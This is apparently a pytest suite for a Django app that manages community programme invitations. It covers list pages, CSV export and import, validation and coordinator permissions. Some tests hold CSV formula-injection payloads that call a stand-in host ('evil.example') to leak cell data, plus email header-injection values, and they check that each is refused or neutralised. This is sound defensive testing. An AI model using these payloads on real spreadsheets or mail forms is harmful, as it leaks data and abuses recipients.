"""The invitation list pages through the real views: the list, its CSV, one person, a CSV upload, groups.

Bad input is tested as carefully as good: each case gets a clear reason, and nothing is saved partially.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from core.models import Message
from events import services as events_services
from events.enums import ProgrammeStatus
from invitations.enums import Category, Channel, MessageKind, MessageState, StaffRole
from invitations.models import Invitation, Invitee
from invitations.services.csv_import import MAX_ROWS
from invitations.services.emails import issue_reply_link
from invitations.services.schedule import sync_schedule
from tests.events.test_forms import field_error
from tests.factories import InvitationFactory, InviteeFactory, OrganisationFactory

HEADER = "name,category,role,organisation,email,phone,language,channel\n"


@pytest.fixture
def facilitator_client(client, world):
    client.force_login(world.user("facilitator"))
    return client


@pytest.fixture
def coordinator_client(client, world):
    client.force_login(world.user("coordinator"))
    return client


def counts() -> tuple[int, int, int]:
    return Invitee.objects.count(), Invitation.objects.count(), Message.objects.count()


def invite(world, *, category=Category.PARENT, organisation=None, opted_out_at=None, **invitee) -> Invitation:
    invitation = InvitationFactory(
        programme=world.programme,
        opted_out_at=opted_out_at,
        invitee__category=category,
        invitee__organisation=organisation,
        invitee__staff_role=StaffRole.TEACHER if category == Category.SCHOOL_STAFF else "",
        **{f"invitee__{key}": value for key, value in invitee.items()},
    )
    sync_schedule(programme=world.programme)
    return invitation


def list_url(world) -> str:
    return reverse("invitations:list", args=[world.programme.pk])


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


# --- The list page ---------------------------------------------------------------------------------------


def test_list_shows_each_person_and_the_state_of_each_message(facilitator_client, world):
    sent = invite(world, name="Amira Khan", organisation=world.school)
    failed = invite(world, name="Ben Lowe", email="ben@example.org", organisation=world.school)
    letter = invite(
        world,
        name="Shabana Begum",
        email="",
        channel=Channel.LETTER,
        organisation=world.school,
        language="bn",
    )
    staff = invite(world, name="Helen Carter", category=Category.SCHOOL_STAFF, organisation=world.school)
    sent_at = timezone.now() - timedelta(hours=1)
    Message.objects.filter(invitation=sent, kind=MessageKind.INVITATION).update(
        state=MessageState.SENT, sent_at=sent_at
    )
    Message.objects.filter(invitation=failed, kind=MessageKind.INVITATION).update(
        state=MessageState.FAILED, last_error="550 5.1.1 <ben@example.org>: no such mailbox"
    )
    Message.objects.filter(invitation=staff, kind=MessageKind.NUDGE).update(state=MessageState.CANCELLED)
    letter_due = Message.objects.get(invitation=letter, kind=MessageKind.INVITATION).scheduled_for
    staff_due = Message.objects.get(invitation=staff, kind=MessageKind.INVITATION).scheduled_for

    html = facilitator_client.get(list_url(world)).content.decode()

    assert "Amira Khan" in html and "Parent or carer" in html and world.school.name in html
    assert "Helen Carter" in html and "Teacher" in html
    assert f"sent {date_format(timezone.localtime(sent_at), 'j M Y, H:i')}" in html
    assert "failed: 550 5.1.1 &lt;ben@example.org&gt;: no such mailbox" in html
    assert f"letter due {date_format(timezone.localtime(letter_due), 'j M Y')}" in html
    assert "Letter through school" in html and "Speaks Bengali" in html
    assert f"scheduled for {date_format(timezone.localtime(staff_due), 'j M Y')}" in html
    assert "Gentle nudge:</span> cancelled" in html
    assert "Session reminder (" in html


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        (ProgrammeStatus.OPEN, "due now: it goes out within a few minutes"),
        (ProgrammeStatus.DRAFT, "due: it goes out once the programme is open"),
    ],
)
def test_list_says_when_an_invitation_is_due_now(facilitator_client, world, status, expected):
    # Added late: the invitation date (21 days before the first session) has already passed.
    first = world.programme.sessions.get(order=1)
    first.date = timezone.localdate() + timedelta(days=10)
    events_services.save_session(session=first)
    world.programme.status = status
    world.programme.save()
    invite(world, name="Amira Khan", organisation=world.school)

    html = facilitator_client.get(list_url(world)).content.decode()
    rows = csv_rows(facilitator_client.get(reverse("invitations:list_csv", args=[world.programme.pk])))

    assert f"Invitation:</span> {expected}" in html
    assert f"Invitation: {expected}" in rows[1][9]


def test_list_marks_people_who_asked_not_to_be_contacted(facilitator_client, world):
    invite(world, name="Jake Thompson", opted_out_at=timezone.now() - timedelta(days=1))

    html = facilitator_client.get(list_url(world)).content.decode()

    assert "Asked not to be contacted" in html
    assert "Not counting 1 person who asked not to be contacted." in html


def test_list_of_a_draft_programme_says_nothing_is_sent_yet(facilitator_client, world):
    html = facilitator_client.get(list_url(world)).content.decode()

    assert "Nothing will be sent yet." in html
    assert reverse("events:programme_update", args=[world.programme.pk]) in html


def test_list_of_an_open_programme_has_no_draft_warning(facilitator_client, world):
    world.programme.status = ProgrammeStatus.OPEN
    world.programme.save()

    html = facilitator_client.get(list_url(world)).content.decode()

    assert "Nothing will be sent yet." not in html


def test_list_warns_when_a_group_is_under_a_quarter(facilitator_client, world):
    for number in range(4):
        invite(world, name=f"Parent {number}", organisation=world.school)
    for number in range(4):
        invite(world, name=f"Teacher {number}", category=Category.SCHOOL_STAFF, organisation=world.school)
    invite(world, name="Jo Bell", category=Category.GROUP_WORKER, organisation=world.group)  # 1 of 9

    response = facilitator_client.get(list_url(world))

    html = response.content.decode()
    assert 'id="balance-warning"' in html
    assert "Local groups and agencies: only 1 of 9 (11%)" in html
    assert [group.key for group in response.context["balance"].low] == ["groups"]


def test_list_has_no_balance_warning_when_the_split_is_even(facilitator_client, world):
    for number in range(3):
        invite(world, name=f"Parent {number}", organisation=world.school)
        invite(world, name=f"Teacher {number}", category=Category.SCHOOL_STAFF, organisation=world.school)
        invite(world, name=f"Worker {number}", category=Category.GROUP_WORKER, organisation=world.group)

    html = facilitator_client.get(list_url(world)).content.decode()

    assert 'id="balance-warning"' not in html
    assert html.count(">33%<") == 3


@pytest.mark.parametrize("role", ["facilitator", "coordinator"])
def test_list_query_count_does_not_grow_with_the_list(client, world, role):
    client.force_login(world.user(role))
    invite(world, organisation=world.school)
    with CaptureQueriesContext(connection) as one:
        assert client.get(list_url(world)).status_code == 200

    for number in range(19):
        invite(
            world,
            name=f"Person {number}",
            organisation=world.school,
            category=Category.SCHOOL_STAFF if number % 2 else Category.PARENT,
        )
    with CaptureQueriesContext(connection) as twenty:
        response = client.get(list_url(world))

    assert len(response.context["invitations"]) == 20
    assert len(twenty) == len(one)


def test_coordinator_sees_only_their_own_schools_people(coordinator_client, world):
    world.programme.schools.add(world.other_school)
    invite(world, name="Amira Khan", organisation=world.school)
    invite(world, name="Stranger Danvers", organisation=world.other_school)
    invite(world, name="Jo Bell", category=Category.GROUP_WORKER, organisation=world.group)

    html = coordinator_client.get(list_url(world)).content.decode()
    download = coordinator_client.get(reverse("invitations:list_csv", args=[world.programme.pk]))

    assert "Amira Khan" in html
    assert "Stranger Danvers" not in html and "Jo Bell" not in html
    names = [row[0] for row in csv_rows(download)[1:]]
    assert names == ["Amira Khan"]


def test_coordinator_does_not_get_the_invite_groups_button(coordinator_client, world):
    html = coordinator_client.get(list_url(world)).content.decode()

    assert reverse("invitations:invite_groups", args=[world.programme.pk]) not in html


def test_programme_page_links_to_the_invitations(facilitator_client, world):
    html = facilitator_client.get(world.programme.get_absolute_url()).content.decode()

    assert f'href="{list_url(world)}"' in html


def test_programme_page_has_no_invitations_link_for_the_artist(client, world):
    client.force_login(world.user("artist"))

    html = client.get(world.programme.get_absolute_url()).content.decode()

    assert list_url(world) not in html


# --- The CSV download ------------------------------------------------------------------------------------


def test_download_has_everyone_in_the_upload_columns(facilitator_client, world):
    invite(world, name="Okafor, Grace", category=Category.SCHOOL_STAFF, organisation=world.school)

    rows = csv_rows(facilitator_client.get(reverse("invitations:list_csv", args=[world.programme.pk])))

    assert rows[0][:8] == [
        "name",
        "category",
        "role",
        "organisation",
        "email",
        "phone",
        "language",
        "channel",
    ]
    assert rows[1][:4] == ["Okafor, Grace", "School staff", "Teacher", world.school.name]
    assert "Invitation: scheduled for" in rows[1][9]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_download_never_writes_a_formula(facilitator_client, world, start):
    # Straight into the database, as an older import or the admin might have left it.
    name = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    invitee = Invitee.objects.create(
        neighbourhood=world.neighbourhood,
        name=name,
        category=Category.PARENT,
        organisation=world.school,
        email="victim@example.org",
        phone="+44 7700 900123",
        channel=Channel.EMAIL,
    )
    Invitation.objects.create(programme=world.programme, invitee=invitee)

    rows = csv_rows(facilitator_client.get(reverse("invitations:list_csv", args=[world.programme.pk])))

    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells
    assert "'+44 7700 900123" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# --- One person ------------------------------------------------------------------------------------------


def person(world, **changes) -> dict:
    data = {
        "name": "Amira Khan",
        "category": Category.PARENT,
        "staff_role": "",
        "organisation": world.school.pk,
        "email": "amira.khan@example.org",
        "phone": "07700 900123",
        "language": "en",
        "channel": Channel.EMAIL,
    }
    return {**data, **changes}


def add(client, world, **changes):
    return client.post(reverse("invitations:add", args=[world.programme.pk]), person(world, **changes))


def test_add_a_person_puts_them_on_the_list_with_their_messages(facilitator_client, world):
    response = add(facilitator_client, world)

    invitation = Invitation.objects.get(programme=world.programme, invitee__email="amira.khan@example.org")
    assert response.status_code == 302 and response.url == list_url(world)
    assert invitation.added_by == world.user("facilitator")
    assert invitation.invitee.organisation == world.school
    assert invitation.messages.filter(kind=MessageKind.INVITATION).exists()


def test_add_then_another_returns_to_the_form(facilitator_client, world):
    response = facilitator_client.post(
        reverse("invitations:add", args=[world.programme.pk]), {**person(world), "another": "1"}
    )

    assert response.url == reverse("invitations:add", args=[world.programme.pk])


def test_add_someone_already_invited_is_refused_beside_the_email(facilitator_client, world):
    add(facilitator_client, world)
    before = counts()

    response = add(facilitator_client, world, name="Amira K", email="AMIRA.KHAN@example.org")

    assert "already on this programme's list" in field_error(response, "email")
    assert counts() == before


def test_add_someone_without_email_already_invited_is_refused_beside_the_name(facilitator_client, world):
    add(facilitator_client, world, email="", channel=Channel.LETTER)
    before = counts()

    response = add(facilitator_client, world, name="amira  khan", email="", channel=Channel.LETTER)

    assert "Amira Khan (Millbrook Primary) is already on this programme's list" in field_error(
        response, "name"
    )
    assert counts() == before


@pytest.mark.parametrize(
    "email",
    [
        "amira@example.org\nBcc: everyone@example.org",
        "amira@example.org\r\n",
        "Evil <a@b.com>",
        "a@b.com, c@d.com",
        "a@b.com;c@d.com",
        "not-an-email",
        "@example.org",
        "amira@",
        "a" * 250 + "@example.org",
    ],
)
def test_add_with_a_bad_email_is_refused_beside_the_email(facilitator_client, world, email):
    before = counts()

    response = add(facilitator_client, world, email=email)

    message = field_error(response, "email")
    assert "email address" in message
    assert counts() == before


def test_add_school_staff_without_a_role_is_refused(facilitator_client, world):
    response = add(facilitator_client, world, category=Category.SCHOOL_STAFF)

    assert "School staff need a role" in field_error(response, "staff_role")


def test_add_a_letter_without_a_school_is_refused(facilitator_client, world):
    response = add(facilitator_client, world, email="", channel=Channel.LETTER, organisation=world.group.pk)

    assert "Letters go through a school" in field_error(response, "organisation")


def test_add_email_channel_without_an_address_is_refused(facilitator_client, world):
    response = add(facilitator_client, world, email="")

    assert "No email address" in field_error(response, "email")


def test_add_a_formula_as_a_name_is_refused(facilitator_client, world):
    response = add(facilitator_client, world, name="=1+1")

    assert "formula" in field_error(response, "name")


def test_add_a_bad_phone_number_is_refused(facilitator_client, world):
    response = add(facilitator_client, world, phone="call me =1+1")

    assert "doesn't look like a phone number" in field_error(response, "phone")


def test_add_an_organisation_from_another_neighbourhood_is_refused(facilitator_client, world):
    elsewhere = OrganisationFactory(neighbourhood=world.other_neighbourhood)

    response = add(facilitator_client, world, organisation=elsewhere.pk)

    assert "choose one of the organisations" in field_error(response, "organisation")


def test_coordinator_adds_a_parent_from_their_school(coordinator_client, world):
    response = add(coordinator_client, world)

    assert response.status_code == 302
    assert Invitation.objects.filter(invitee__email="amira.khan@example.org").exists()


def test_coordinator_form_offers_only_their_school_and_parents_and_staff(coordinator_client, world):
    form = coordinator_client.get(reverse("invitations:add", args=[world.programme.pk])).context["form"]

    assert list(form.fields["organisation"].queryset) == [world.school]
    assert [key for key, _label in form.fields["category"].choices] == [
        Category.PARENT,
        Category.SCHOOL_STAFF,
    ]


def test_coordinator_cannot_add_someone_from_another_school(coordinator_client, world):
    world.programme.schools.add(world.other_school)
    before = counts()

    response = add(coordinator_client, world, organisation=world.other_school.pk)

    assert "choose one of the organisations" in field_error(response, "organisation")
    assert counts() == before


def test_coordinator_cannot_add_a_group_worker(coordinator_client, world):
    response = add(coordinator_client, world, category=Category.GROUP_WORKER)

    assert "Select a valid choice" in field_error(response, "category")


def test_coordinator_cannot_invite_an_email_known_at_another_organisation(coordinator_client, world):
    InviteeFactory(neighbourhood=world.neighbourhood, organisation=world.group, email="jo@example.org")
    before = counts()

    response = add(coordinator_client, world, email="jo@example.org")

    assert "ask the facilitator" in field_error(response, "email")
    assert counts() == before


# --- Uploading a CSV -------------------------------------------------------------------------------------


def import_url(world) -> str:
    return reverse("invitations:import", args=[world.programme.pk])


def upload(client, world, content: bytes | str, name: str = "people.csv"):
    data = content.encode("utf-8") if isinstance(content, str) else content
    return client.post(import_url(world), {"file": SimpleUploadedFile(name, data, content_type="text/csv")})


def confirm(client, world, preview_response):
    text = preview_response.context["confirm_form"].initial["text"]
    return client.post(import_url(world), {"text": text})


def statuses(response) -> list[str]:
    return [row.status for row in response.context["preview"].rows]


def reasons(response) -> list[str]:
    return [" ".join(row.reasons) for row in response.context["preview"].rows]


def test_import_page_documents_the_columns_with_an_example(facilitator_client, world):
    html = facilitator_client.get(import_url(world)).content.decode()

    for column in ["name", "category", "role", "organisation", "email", "phone", "language", "channel"]:
        assert f"<code>{column}</code>" in html
    assert "name,category,role,organisation,email,phone,language,channel" in html
    assert world.school.name in html
    assert reverse("invitations:import_example", args=[world.programme.pk]) in html


def test_the_example_file_previews_without_errors(facilitator_client, world):
    example = facilitator_client.get(reverse("invitations:import_example", args=[world.programme.pk]))

    response = upload(facilitator_client, world, example.content)

    assert example["Content-Disposition"].startswith("attachment;")
    assert statuses(response) == ["add", "add", "add", "add"]


def test_the_coordinators_example_file_previews_without_errors(coordinator_client, world):
    example = coordinator_client.get(reverse("invitations:import_example", args=[world.programme.pk]))

    response = upload(coordinator_client, world, example.content)

    assert statuses(response) == ["add", "add", "add"]


def test_upload_shows_a_preview_and_saves_nothing(facilitator_client, world):
    before = counts()

    response = upload(
        facilitator_client,
        world,
        HEADER + "Amira Khan,parent,,Millbrook Primary,amira@example.org,,,\n" + "Nobody,alien,,,,,,\n",
    )

    html = response.content.decode()
    assert statuses(response) == ["add", "error"]
    assert "will add" in html and "Unknown category “alien”" in html
    assert "Add the 1 person marked “will add”" in html
    assert counts() == before


def test_confirm_adds_only_the_rows_marked_will_add(facilitator_client, world):
    already = invite(world, name="Jake Thompson", email="jake@example.org", organisation=world.school)
    preview = upload(
        facilitator_client,
        world,
        HEADER
        + "Amira Khan,parent,,Millbrook Primary,amira@example.org,,,\n"
        + "Jake Thompson,parent,,Millbrook Primary,jake@example.org,,,\n"
        + "Bad Email,parent,,Millbrook Primary,not-an-email,,,\n"
        + "Shabana Begum,parent,,Millbrook Primary,,,Bengali,letter\n",
    )
    assert statuses(preview) == ["add", "already", "error", "add"]

    response = confirm(facilitator_client, world, preview)

    assert response.status_code == 302 and response.url == list_url(world)
    names = set(Invitation.objects.filter(programme=world.programme).values_list("invitee__name", flat=True))
    assert names == {"Amira Khan", "Jake Thompson", "Shabana Begum"}
    assert Invitee.objects.filter(name="Bad Email").count() == 0
    assert Invitation.objects.filter(invitee=already.invitee).count() == 1
    message = str(list(get_messages(response.wsgi_request))[0])
    assert "Added 2 people to the list." in message
    assert "1 was already invited." in message
    assert "1 row with a problem was not added" in message


def test_confirming_twice_adds_nobody_the_second_time(facilitator_client, world):
    preview = upload(
        facilitator_client, world, HEADER + "Amira Khan,parent,,Millbrook Primary,a@example.org,,,\n"
    )
    confirm(facilitator_client, world, preview)
    after_first = counts()

    response = confirm(facilitator_client, world, preview)

    assert counts() == after_first
    assert "Nobody new was added." in str(list(get_messages(response.wsgi_request))[-1])


def test_confirm_checks_the_file_again(coordinator_client, world):
    # The text comes back from the browser: a coordinator who edits it still can't add another school.
    world.programme.schools.add(world.other_school)
    before = counts()
    text = HEADER + f"Stranger Danvers,parent,,{world.other_school.name},s@example.org,,,\n"

    response = coordinator_client.post(import_url(world), {"text": text})

    assert response.status_code == 302
    assert counts() == before


def test_upload_in_the_wrong_encoding_is_refused(facilitator_client, world):
    before = counts()

    response = upload(
        facilitator_client,
        world,
        (HEADER + "Zoé Martin,parent,,Millbrook Primary,zoe@example.org,,,\n").encode("cp1252"),
    )

    assert "isn't saved as UTF-8" in field_error(response, "file")
    assert counts() == before


def test_upload_without_a_category_column_is_refused(facilitator_client, world):
    response = upload(facilitator_client, world, "name,email\nAmira Khan,amira@example.org\n")

    assert "The “category” column is missing." in field_error(response, "file")


def test_upload_with_a_misspelled_header_gets_a_hint(facilitator_client, world):
    before = counts()

    response = upload(facilitator_client, world, "name,catagory,email\nAmira Khan,parent,amira@example.org\n")

    message = field_error(response, "file")
    assert "The “category” column is missing (is “catagory” meant to be it?)." in message
    assert counts() == before


def test_upload_with_a_misspelled_optional_header_gets_a_hint(facilitator_client, world):
    response = upload(facilitator_client, world, "name,category,emial\nAmira Khan,parent,amira@example.org\n")

    assert "We don't know the column “emial”: is it meant to be “email”?" in field_error(response, "file")


def test_upload_with_an_extra_column_lists_it_as_left_out(facilitator_client, world):
    response = upload(
        facilitator_client,
        world,
        "name,category,organisation,email,notes\nAmira Khan,parent,Millbrook Primary,a@example.org,likes tea\n",
    )

    assert statuses(response) == ["add"]
    assert "“notes”" in response.content.decode()


def test_upload_with_no_file_is_refused(facilitator_client, world):
    response = facilitator_client.post(import_url(world), {})

    assert "Please choose a CSV file" in field_error(response, "file")


def test_upload_of_an_empty_file_is_refused(facilitator_client, world):
    response = upload(facilitator_client, world, b"")

    assert "This file is empty." in field_error(response, "file")


def test_upload_with_only_a_header_is_refused(facilitator_client, world):
    response = upload(facilitator_client, world, HEADER)

    assert "There is nobody in this file" in field_error(response, "file")


def test_upload_with_an_unknown_category_gives_the_row_a_reason(facilitator_client, world):
    response = upload(
        facilitator_client, world, HEADER + "Amira Khan,grandparent,,Millbrook Primary,a@example.org,,,\n"
    )

    assert statuses(response) == ["error"]
    assert "Unknown category “grandparent”. Use one of: parent, school staff" in reasons(response)[0]


def test_upload_with_an_invalid_email_gives_the_row_a_reason(facilitator_client, world):
    response = upload(
        facilitator_client, world, HEADER + "Amira Khan,parent,,Millbrook Primary,amira@@example,,,\n"
    )

    assert statuses(response) == ["error"]
    assert "“amira@@example” is not a single email address." in reasons(response)[0]


def test_upload_with_duplicate_rows_refuses_the_repeat(facilitator_client, world):
    row = "Amira Khan,parent,,Millbrook Primary,amira@example.org,,,\n"

    response = upload(facilitator_client, world, HEADER + row + row.replace("amira@", "AMIRA@"))

    assert statuses(response) == ["add", "error"]
    assert reasons(response)[1] == "The same person is on line 2."


def test_upload_of_10000_rows_is_refused_and_nothing_is_saved(facilitator_client, world):
    before = counts()
    rows = "".join(f"Person {n},parent,,Millbrook Primary,person{n}@example.org,,,\n" for n in range(10_000))

    response = upload(facilitator_client, world, HEADER + rows)

    assert f"more than {MAX_ROWS} people" in field_error(response, "file")
    assert counts() == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
@pytest.mark.parametrize("column", ["name", "organisation", "email"])
def test_upload_refuses_cells_that_start_like_a_formula(facilitator_client, world, start, column):
    values = {"name": "Amira Khan", "organisation": "Millbrook Primary", "email": "amira@example.org"}
    values[column] = start + 'HYPERLINK("http://evil.example","x")'
    line = '"{name}",parent,,"{organisation}","{email}",,,\n'.format(
        **{key: value.replace('"', '""') for key, value in values.items()}
    )
    before = counts()

    preview = upload(facilitator_client, world, HEADER + line)
    facilitator_client.post(import_url(world), {"text": HEADER + line})

    assert statuses(preview) == ["error"]
    assert (
        f"The {column} starts with “{start}”, which spreadsheets treat as a formula." in reasons(preview)[0]
    )
    assert counts() == before


@pytest.mark.parametrize(
    ("email", "reason"),
    [
        ('"amira@example.org\nBcc: everyone@example.org"', "is not a single email address"),
        ('"Evil <a@b.com>"', "“Evil &lt;a@b.com&gt;” is not a single email address"),
        ('"a@b.com, c@d.com"', "“a@b.com, c@d.com” is not a single email address"),
    ],
)
def test_upload_refuses_an_email_with_a_newline_or_a_display_name(facilitator_client, world, email, reason):
    response = upload(
        facilitator_client, world, HEADER + f"Amira Khan,parent,,Millbrook Primary,{email},,,\n"
    )

    assert statuses(response) == ["error"]
    assert reason in response.content.decode()


def excel_file(bom: bool) -> bytes:
    text = (
        "name,category,role,organisation,email,phone,language,channel\r\n"
        '"Okafor, Grace",school staff,teacher,Millbrook Primary,g.okafor@example.org,,,\r\n'
        'Zoé Martin,parent,,"Millbrook Primary","zoe@example.org","07700 900123",Polish,email\r\n'
        '"Wiśniewski, Tomasz ""Tom""",parent,,Millbrook Primary,,,,letter\r\n'
    )
    return ("\ufeff" if bom else "").encode() + text.encode("utf-8")


@pytest.mark.parametrize("bom", [True, False], ids=["with-bom", "without-bom"])
def test_upload_of_utf8_with_excel_quoting_is_imported_correctly(facilitator_client, world, bom):
    preview = upload(facilitator_client, world, excel_file(bom))
    assert statuses(preview) == ["add", "add", "add"]

    confirm(facilitator_client, world, preview)

    grace = Invitee.objects.get(name="Okafor, Grace")
    assert (grace.category, grace.staff_role, grace.organisation) == (
        Category.SCHOOL_STAFF,
        StaffRole.TEACHER,
        world.school,
    )
    zoe = Invitee.objects.get(email="zoe@example.org")
    assert (zoe.name, zoe.language, zoe.phone) == ("Zoé Martin", "pl", "07700 900123")
    tomasz = Invitee.objects.get(name='Wiśniewski, Tomasz "Tom"')
    assert tomasz.channel == Channel.LETTER
    assert world.programme.invitations.count() == 3


def test_coordinator_cannot_import_someone_from_another_school(coordinator_client, world):
    world.programme.schools.add(world.other_school)
    before = counts()

    preview = upload(
        coordinator_client,
        world,
        HEADER
        + "Amira Khan,parent,,Millbrook Primary,amira@example.org,,,\n"
        + f"Stranger Danvers,parent,,{world.other_school.name},s@example.org,,,\n"
        + "Jo Bell,group worker,,Tenants' Association,jo@example.org,,,\n",
    )
    confirm(coordinator_client, world, preview)

    assert statuses(preview) == ["add", "error", "error"]
    assert "You can add people from your own school only (Millbrook Primary)." in reasons(preview)[1]
    assert "the facilitator adds groups" in reasons(preview)[2]
    assert counts()[1] == before[1] + 1
    assert not Invitee.objects.filter(name__in=["Stranger Danvers", "Jo Bell"]).exists()


# --- Inviting the neighbourhood's groups ----------------------------------------------------------------


def test_invite_groups_invites_each_group_with_an_email_once(facilitator_client, world):
    OrganisationFactory(neighbourhood=world.neighbourhood, name="Food Pantry", contact_email="")
    url = reverse("invitations:invite_groups", args=[world.programme.pk])

    first = facilitator_client.post(url)
    after_first = counts()
    facilitator_client.post(url)

    assert first.url == list_url(world)
    assert list(world.programme.invitations.values_list("invitee__name", flat=True)) == [world.group.name]
    assert counts() == after_first


def test_invite_groups_button_says_which_groups_have_no_email(facilitator_client, world):
    OrganisationFactory(neighbourhood=world.neighbourhood, name="Food Pantry", contact_email="")

    html = facilitator_client.get(list_url(world)).content.decode()

    assert "won't be invited:" in html and "Food Pantry" in html


# --- The admin -------------------------------------------------------------------------------------------


def test_admin_lists_and_filters_invitees_invitations_and_messages(client, world):
    invite(world, name="Amira Khan", organisation=world.school)
    client.force_login(world.user("admin"))

    for url in [
        reverse("admin:invitations_invitee_changelist") + "?q=amira&category__exact=parent",
        reverse("admin:invitations_invitation_changelist") + "?q=amira",
        reverse("admin:core_message_changelist") + "?state__exact=scheduled&kind__exact=invitation",
        reverse("admin:core_message_changelist") + "?channel__exact=letter",
    ]:
        assert client.get(url).status_code == 200, url


def test_admin_shows_reply_token_hashes_read_only(client, world):
    invitation = invite(world, name="Amira Khan")
    issue_reply_link(invitation=invitation)
    token = invitation.tokens.get()
    client.force_login(world.user("admin"))

    html = client.get(reverse("admin:invitations_invitation_change", args=[invitation.pk])).content.decode()

    assert token.token_hash in html
    assert 'name="tokens-0-token_hash"' not in html  # shown as text, never an editable field
